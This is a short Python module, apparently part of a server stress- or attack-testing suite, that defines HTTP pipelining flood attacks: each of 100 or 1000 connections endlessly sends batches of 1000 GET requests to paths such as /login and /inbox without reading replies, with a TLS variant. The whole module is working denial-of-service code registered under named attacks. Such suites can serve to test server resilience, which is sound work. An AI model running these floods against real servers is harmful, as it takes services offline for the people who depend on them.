"""Requests without end, of which no answer is read."""

from functools import partial

from attack import Attack
from hostile import request, send, swarm

AT_ONCE = 1000


async def run(target, path, count=100, context=None):
    requests = request("GET", path) * AT_ONCE

    async def script(_, writer, __):
        while True:
            await send(writer, requests)

    await swarm(target, count, script, context)


async def over_tls(target):
    await run(target, "/login", context=target.context)


ATTACKS = {
    "pipelined-pages": Attack(partial(run, path="/login")),
    "pipelined-redirects": Attack(partial(run, path="/inbox")),
    "pipelined-pages-1000": Attack(partial(run, path="/login", count=1000), connections=1000),
    "pipelined-over-tls": Attack(over_tls, tls=True),
}
